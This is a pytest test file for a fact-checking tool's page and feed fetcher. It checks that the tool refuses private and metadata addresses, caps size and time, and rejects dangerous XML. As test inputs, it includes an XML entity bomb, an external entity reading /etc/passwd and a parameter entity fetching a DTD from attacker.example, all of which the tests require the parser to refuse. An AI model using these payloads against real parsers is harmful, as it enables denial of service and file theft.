"""Fetching pages and feeds: limits, refusals and one-line errors.

A local http.server on 127.0.0.1 serves the sample fixtures (a fictional outlet); no
test touches the network beyond loopback. Resolution is faked where a test needs a
name that would resolve elsewhere.
"""
import gzip
import socket
import threading
import time
from http.server import BaseHTTPRequestHandler
from pathlib import Path

import pytest

from factcheck.errors import InputError
from factcheck.pipeline import fetching
from factcheck.pipeline.feeds import feed_entry_urls, is_feed
from factcheck.pipeline.fetching import fetch_url
from factcheck.pipeline.reading import read_source
from ..loopback import http_server, serving

FIXTURES = Path(__file__).resolve().parents[1] / "fixtures"
PAGE = (FIXTURES / "sample-harbor-gazette.html").read_bytes()
RSS = (FIXTURES / "sample-feed.rss").read_bytes()
ATOM = (FIXTURES / "sample-feed.atom").read_bytes()


class Handler(BaseHTTPRequestHandler):
    routes = {
        "/article.html": (200, "text/html; charset=utf-8", PAGE),
        "/notes.txt": (200, "text/plain", b"Pier Plan Wins\nBy Ana Lind\nThe council met."),
        "/feed.xml": (200, "application/rss+xml", RSS),
        "/report.pdf": (200, "application/pdf", b"%PDF-1.4"),
        "/big.html": (200, "text/html", b"<p>" + b"x" * 50_000 + b"</p>"),
    }

    def do_GET(self):
        path = self.path
        if path == "/host":
            return self._send(200, "text/plain", self.headers["Host"].encode())
        if path.startswith("/hop/"):  # /hop/N redirects N more times, then to the article
            n = int(path.rsplit("/", 1)[1])
            return self._redirect(f"/hop/{n - 1}" if n > 1 else "/article.html")
        if path == "/to-internal":
            return self._redirect(f"http://internal.example:{self.server.server_port}/article.html")
        if path == "/slow":
            time.sleep(2)
            return self._send(200, "text/html", PAGE)
        if path == "/gzip":
            body = gzip.compress(b"<p>" + b"y" * 50_000 + b"</p>")
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.send_header("Content-Encoding", "gzip")
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            return self.wfile.write(body)
        if path in self.routes:
            return self._send(*self.routes[path])
        self._send(404, "text/plain", b"not here")

    def _send(self, status, content_type, body):
        self.send_response(status)
        self.send_header("Content-Type", content_type)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def _redirect(self, location):
        self.send_response(302)
        self.send_header("Location", location)
        self.send_header("Content-Length", "0")
        self.end_headers()

    def log_message(self, *args):
        pass


@pytest.fixture(scope="module")
def server():
    with serving(http_server(Handler)) as base:
        yield base


def test_a_page_is_fetched_with_its_type_and_final_url(server):
    page = fetch_url(f"{server}/article.html", allow_private=True)
    assert (page.url, page.content_type, page.body) == (f"{server}/article.html", "text/html; charset=utf-8", PAGE)


def test_the_host_header_names_the_host_not_the_address(server, monkeypatch):
    monkeypatch.setattr(fetching, "_resolve", lambda host, port, deadline: ["127.0.0.1"])
    port = server.rsplit(":", 1)[1]
    page = fetch_url(f"http://news.example:{port}/host", allow_private=True)
    assert page.body == f"news.example:{port}".encode()


def test_redirects_are_followed_up_to_the_limit(server):
    assert fetch_url(f"{server}/hop/5", allow_private=True).url == f"{server}/article.html"
    with pytest.raises(InputError, match="more than 5 redirects"):
        fetch_url(f"{server}/hop/6", allow_private=True)
    with pytest.raises(InputError, match="more than 1 redirects"):
        fetch_url(f"{server}/hop/2", allow_private=True, max_redirects=1)


def test_loopback_and_private_addresses_are_refused(server):
    with pytest.raises(InputError) as err:
        fetch_url(f"{server}/article.html")
    assert str(err.value).startswith(f"{server}/article.html: refusing") and "loopback" in str(err.value)


@pytest.mark.parametrize("address, problem", [
    ("10.0.0.5", "private"), ("192.168.1.1", "private"), ("169.254.169.254", "link-local"),
    ("224.0.0.1", "multicast"), ("0.0.0.0", "unspecified"), ("::1", "loopback"),
    ("fe80::1", "link-local"), ("::ffff:127.0.0.1", "loopback"), ("100.64.0.1", "non-public"),
    ("240.0.0.1", "reserved"), ("93.184.216.34", None), ("2606:4700::1111", None),
])
def test_each_kind_of_non_public_address_is_named(address, problem):
    assert fetching._address_problem(address) == problem


def test_every_address_of_a_host_is_checked(monkeypatch):
    monkeypatch.setattr(fetching, "_resolve", lambda host, port, deadline: ["93.184.216.34", "10.0.0.5"])
    with pytest.raises(InputError, match="10.0.0.5 is a private address"):
        fetch_url("http://mixed.example/")


def test_a_redirect_to_a_private_address_is_refused(server, monkeypatch):
    # Let the test server count as public, and make internal.example resolve privately.
    real_problem = fetching._address_problem
    monkeypatch.setattr(fetching, "_address_problem", lambda a: None if a == "127.0.0.1" else real_problem(a))
    real_resolve = fetching._resolve
    monkeypatch.setattr(fetching, "_resolve",
                        lambda host, port, deadline: (["10.1.2.3"] if host == "internal.example"
                                                        else real_resolve(host, port, deadline)))
    with pytest.raises(InputError, match="internal.example .10.1.2.3 is a private address"):
        fetch_url(f"{server}/to-internal")


def test_the_size_cap_stops_the_read(server):
    with pytest.raises(InputError, match="over the 10,000-byte limit"):
        fetch_url(f"{server}/big.html", allow_private=True, max_bytes=10_000)
    with pytest.raises(InputError, match="over the 10,000-byte limit"):
        fetch_url(f"{server}/gzip", allow_private=True, max_bytes=10_000)  # counted after decompression
    assert len(fetch_url(f"{server}/gzip", allow_private=True).body) == 50_007


def test_a_slow_server_times_out(server):
    started = time.monotonic()
    with pytest.raises(InputError, match="timed out"):
        fetch_url(f"{server}/slow", allow_private=True, timeout=0.5)
    assert time.monotonic() - started < 1.9


class TricklingServer:
    """A loopback HTTP server (a sample) that sends its responses one byte every 0.2 s.

    /headers trickles the whole response; /body and /body-no-length send the headers at
    once and trickle the body (with and without a Content-Length); /redirect sends a
    redirect to /body at once. With `tls`, it answers any connection with the start of a
    TLS handshake that never ends. One connection at a time, on one thread, which `close`
    stops within a trickle step.
    """

    STEP = 0.2
    BODY = b"<p>" + b"x" * 40 + b"</p>"

    def __init__(self, tls=False):
        self.tls = tls
        self.stopping = threading.Event()
        self.listener = socket.create_server(("127.0.0.1", 0))
        self.listener.settimeout(self.STEP)
        self.url = f"{'https' if tls else 'http'}://127.0.0.1:{self.listener.getsockname()[1]}"
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def close(self):
        self.stopping.set()
        self.thread.join(timeout=5)
        self.listener.close()
        assert not self.thread.is_alive()

    def _serve(self):
        while not self.stopping.is_set():
            try:
                conn, _ = self.listener.accept()
            except TimeoutError:
                continue
            with conn:
                try:
                    self._answer(conn)
                except OSError:  # the client gave up and closed the connection
                    pass

    def _answer(self, conn):
        if self.tls:  # a handshake record of 80 bytes, sent a byte at a time
            return self._trickle(conn, b"\x16\x03\x03\x00\x50" + bytes(80), 0)
        conn.settimeout(5)
        request = b""
        while b"\r\n\r\n" not in request:
            data = conn.recv(4096)
            if not data:
                return
            request += data
        path = request.split(b" ")[1].decode()
        if path == "/redirect":
            return conn.sendall(b"HTTP/1.1 302 Found\r\nLocation: /body\r\nContent-Length: 0\r\n\r\n")
        length = f"Content-Length: {len(self.BODY)}\r\n" if path != "/body-no-length" else "Connection: close\r\n"
        head = f"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n{length}\r\n".encode()
        self._trickle(conn, head + self.BODY, 0 if path == "/headers" else len(head))

    def _trickle(self, conn, response, at_once):
        """Send the first `at_once` bytes of `response`, then the rest a byte at a time."""
        conn.sendall(response[:at_once])
        for i in range(at_once, len(response)):
            if self.stopping.wait(self.STEP):
                return
            conn.sendall(response[i:i + 1])


@pytest.fixture
def trickling():
    server = TricklingServer()
    yield server.url
    server.close()


@pytest.mark.parametrize("path", ["/headers", "/body", "/body-no-length", "/redirect"])
def test_a_trickling_server_cannot_stretch_the_deadline(trickling, path):
    # Every byte arrives well within the timeout, so only the clock can end these fetches.
    started = time.monotonic()
    with pytest.raises(InputError) as err:
        fetch_url(f"{trickling}{path}", allow_private=True, timeout=1.0)
    elapsed = time.monotonic() - started
    assert str(err.value) == f"{trickling}{path}: timed out after 1 s"
    assert 1.0 <= elapsed < 2.0, elapsed


def test_a_trickled_tls_handshake_cannot_stretch_the_deadline():
    server = TricklingServer(tls=True)
    try:
        started = time.monotonic()
        with pytest.raises(InputError, match="timed out after 1 s"):
            fetch_url(f"{server.url}/", allow_private=True, timeout=1.0)
        assert time.monotonic() - started < 2.0
    finally:
        server.close()


def test_a_hanging_resolver_cannot_stretch_the_deadline(monkeypatch):
    released = threading.Event()

    def hanging_getaddrinfo(*args, **kwargs):
        released.wait(10)  # a resolver that never answers in time
        raise socket.gaierror("no answer")

    monkeypatch.setattr(fetching.socket, "getaddrinfo", hanging_getaddrinfo)
    started = time.monotonic()
    try:
        with pytest.raises(InputError) as err:
            fetch_url("http://gazette.example/news", timeout=0.5)
    finally:
        released.set()
    elapsed = time.monotonic() - started
    assert str(err.value) == "http://gazette.example/news: timed out after 0.5 s"
    assert 0.5 <= elapsed < 1.5, elapsed


@pytest.mark.parametrize("path, needle", [
    ("/report.pdf", "unsupported content type 'application/pdf'"),
    ("/missing", "HTTP 404"),
])
def test_unusable_responses_fail_with_one_line_naming_the_url(server, path, needle):
    with pytest.raises(InputError) as err:
        fetch_url(f"{server}{path}", allow_private=True)
    assert str(err.value).startswith(f"{server}{path}: ") and needle in str(err.value)


@pytest.mark.parametrize("url, needle", [
    ("ftp://gazette.example/x", "only http and https"),
    ("file:///etc/passwd", "only http and https"),
    ("http:///nohost", "no host"),
    ("http://no-such-host.invalid/", "cannot resolve"),
])
def test_bad_urls_fail_before_any_connection(url, needle):
    with pytest.raises(InputError, match=needle):
        fetch_url(url)


def test_nothing_listens_gives_a_connection_error(monkeypatch):
    with pytest.raises(InputError, match="cannot connect"):
        fetch_url("http://127.0.0.1:9/", allow_private=True, timeout=2)


def test_read_source_reads_pages_and_text_by_url(server):
    article = read_source(f"{server}/article.html", allow_private=True)
    assert article.outlet == "Sample Harbor Gazette" and "heart of this town" in article.text
    article = read_source(f"{server}/hop/1", allow_private=True)
    assert article.title == "Council votes to rebuild the old pier"
    article = read_source(f"{server}/notes.txt", allow_private=True)
    assert (article.title, article.authors, article.url) == ("Pier Plan Wins", ["Ana Lind"], f"{server}/notes.txt")
    with pytest.raises(InputError, match="refusing"):
        read_source(f"{server}/article.html")
    with pytest.raises(InputError, match="is a news feed"):
        read_source(f"{server}/feed.xml", allow_private=True)


def test_feeds_are_told_from_pages():
    assert is_feed(RSS, "application/rss+xml") and is_feed(RSS, None) and is_feed(RSS, "text/xml")
    assert is_feed(ATOM, "application/xml")
    assert is_feed(b'<?xml version="1.0"?><rdf:RDF xmlns:rdf="x"></rdf:RDF>', None)
    assert not is_feed(PAGE, "text/html")
    assert not is_feed(b"<?xml version='1.0'?><svg/>", "application/xml")


def test_feed_entries_give_their_article_urls_in_order():
    assert feed_entry_urls(RSS, base_url="https://gazette.example/") == [
        "https://gazette.example/2025/12/05/council-pier",
        "https://gazette.example/2025/12/04/ferry-fares",
        "https://gazette.example/2025/12/03/dredging",
        "https://gazette.example/2025/12/02/tides",
    ]
    assert feed_entry_urls(ATOM) == [
        "https://gazette.example/2025/12/05/council-pier",
        "https://gazette.example/2025/12/04/ferry-fares",
    ]


# A "billion laughs" XML bomb (a sample): ten levels of ten copies, a few hundred bytes
# that would expand to a billion "lol"s, before one good item.
BILLION_LAUGHS = (
    b'<?xml version="1.0"?>\n<!DOCTYPE rss [\n<!ENTITY lol0 "lol">\n'
    + b"".join(b'<!ENTITY lol%d "%s">\n' % (i, b"&lol%d;" % (i - 1) * 10) for i in range(1, 10))
    + b']>\n<rss version="2.0"><channel><title>&lol9;</title>'
    b"<item><link>https://gazette.example/ok</link></item></channel></rss>"
)
ONE_ITEM = b"<rss><channel><item><link>https://gazette.example/ok</link></item></channel></rss>"


def test_a_feed_bomb_is_refused_at_once_naming_the_feed():
    started = time.monotonic()
    with pytest.raises(InputError) as err:
        feed_entry_urls(BILLION_LAUGHS, name="https://gazette.example/feed.xml")
    assert time.monotonic() - started < 1.0
    assert str(err.value) == ("https://gazette.example/feed.xml: not a readable feed (it declares the XML "
                              "entity 'lol0', and feeds with entity declarations are refused)")


@pytest.mark.parametrize("prolog", [
    b'<!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/passwd">]>',  # an external entity
    b'<!DOCTYPE rss [<!ENTITY unused "never referred to">]>',  # declared, never used: refused all the same
    b'<!DOCTYPE rss [<!ENTITY % p SYSTEM "https://attacker.example/p.dtd"> %p;]>',  # a parameter entity
])
def test_any_entity_declaration_is_refused(prolog):
    with pytest.raises(InputError, match="^feed.xml: not a readable feed .it declares the XML entity"):
        feed_entry_urls(b'<?xml version="1.0"?>' + prolog + ONE_ITEM, name="feed.xml")


def test_an_entity_declaration_cannot_hide_behind_an_encoding():
    with pytest.raises(InputError, match="declares the XML entity 'lol0'"):
        feed_entry_urls(BILLION_LAUGHS.decode().replace('version="1.0"', 'version="1.0" encoding="utf-16"')
                        .encode("utf-16"), name="feed.xml")


def test_a_doctype_without_entities_is_read():
    netscape = (b'<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" '
                b'"http://my.netscape.com/publish/formats/rss-0.91.dtd">')
    internal = b"<!DOCTYPE rss [<!ELEMENT rss ANY>]>"
    for prolog in (netscape, internal):
        assert feed_entry_urls(b'<?xml version="1.0"?>' + prolog + ONE_ITEM) == ["https://gazette.example/ok"]


@pytest.mark.parametrize("data, reason", [
    (b"not xml at all", "syntax error"),
    (b"", "no element found"),
    (b'<?xml version="1.0"?><rss><chan', "unclosed token"),
])
def test_an_unreadable_feed_is_an_error_naming_it(data, reason):
    with pytest.raises(InputError) as err:
        feed_entry_urls(data, name="https://gazette.example/feed.xml")
    assert str(err.value) == f"https://gazette.example/feed.xml: not a readable feed ({reason})"


def test_a_feed_broken_after_its_items_gives_them():
    broken = b"<rss><channel><item><title>Tom & Jerry</title><link>https://gazette.example/ok</link></item><item><li"
    assert feed_entry_urls(broken) == ["https://gazette.example/ok"]
    assert feed_entry_urls(b"<rss><channel><title>Quiet week</title></channel></rss>") == []  # well-formed, empty


def test_feed_parsing_reads_only_the_bytes_it_is_given():
    # the body of a page that names a local feed file: its text is parsed (and is no feed), not the file
    for body in (str(FIXTURES / "sample-feed.rss").encode(), b"https://gazette.example/feed.xml"):
        with pytest.raises(InputError, match=r"^feed: not a readable feed \("):
            feed_entry_urls(body)


def test_rdf_feed_items_give_their_links():
    rdf = (b'<?xml version="1.0"?><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" '
           b'xmlns="http://purl.org/rss/1.0/"><channel rdf:about="https://gazette.example/"><title>G</title></channel>'
           b'<item rdf:about="https://gazette.example/a"><title>A</title><link>https://gazette.example/a</link></item>'
           b'<item rdf:about="https://gazette.example/b"><title>B</title><link>https://gazette.example/b</link></item>'
           b"</rdf:RDF>")
    assert feed_entry_urls(rdf) == ["https://gazette.example/a", "https://gazette.example/b"]
